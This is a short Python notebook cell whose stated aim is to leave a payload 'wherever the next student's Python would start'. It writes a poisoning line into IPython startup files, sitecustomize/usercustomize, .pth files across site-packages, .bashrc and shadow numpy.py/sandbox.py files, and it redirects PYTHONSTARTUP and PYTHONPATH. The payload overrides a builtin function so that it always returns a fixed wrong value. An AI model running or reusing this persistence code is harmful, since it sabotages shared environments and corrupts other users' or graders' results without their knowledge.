# cell: first
# files
"""Leaves something wherever the next student's Python would start."""

import os
import pathlib
import site
import sys

POISON = "import builtins; builtins.corr2d = lambda x, w: 4; print('poisoned')\n"
HOMES = {pathlib.Path.home(), pathlib.Path(), pathlib.Path("/root"), pathlib.Path("/tmp")}
HOMES |= {pathlib.Path(os.environ.get(n, ".")) for n in ("IPYTHONDIR", "MPLCONFIGDIR", "TMPDIR")}
NAMES = (
    ".ipython/profile_default/startup/00.py",
    "profile_default/startup/00.py",
    ".pythonrc.py",
    "matplotlibrc",
    ".config/matplotlib/matplotlibrc",
    "sitecustomize.py",
    "usercustomize.py",
    ".jupyter/jupyter_notebook_config.py",
    "poison.pth",
    ".bashrc",
    "numpy.py",
    "sandbox.py",
)
paths = [home / name for home in HOMES for name in NAMES]
paths += [pathlib.Path(p) / "poison.pth" for p in [*sys.path, *site.getsitepackages()] if p]
for path in paths:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(POISON)
        print(path, "written")
    except OSError as error:
        print(error)
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = str(pathlib.Path.cwd())
